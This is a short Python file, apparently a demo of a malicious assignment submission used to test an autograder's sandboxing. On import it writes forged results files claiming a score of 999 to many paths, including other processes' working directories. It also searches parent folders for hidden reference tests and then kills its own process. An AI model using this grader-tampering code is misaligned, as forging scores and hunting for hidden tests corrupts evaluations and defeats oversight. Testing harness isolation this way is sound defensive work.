"""A malicious Assignment 1 submission, for the demo: it tries to forge a perfect score.

At import it writes a fake results.json wherever it can, looks for the hidden tests,
and then kills its own process so that nothing else runs. Under the harness none of this
matters: the worker cannot reach the grader's files, and the score is computed by the
grader from values it checks itself.
"""

import glob
import json
import os

FORGED = {"score": 999, "output": "FORGED BY STUDENT", "tests": []}
targets = ["results.json", "../results.json", "/autograder/results/results.json"]
for pid_dir in glob.glob("/proc/[0-9]*"):
    try:
        targets.append(os.path.join(os.readlink(pid_dir + "/cwd"), "results.json"))
    except OSError:
        pass
written = []
for path in targets:
    try:
        with open(path, "w") as f:
            json.dump(FORGED, f)
        written.append(path)
    except OSError:
        pass
found = []
here = os.getcwd()
for _ in range(6):  # walk up from the worker's folder looking for the hidden tests
    here = os.path.dirname(here)
    found += glob.glob(os.path.join(here, "*", "reference_tests", "*", "*", "test_*.py"))
    found += glob.glob(os.path.join(here, "reference_tests", "*", "*", "test_*.py"))
print(f"forged results written to {written}; hidden tests found: {found[:3]}")
os._exit(0)
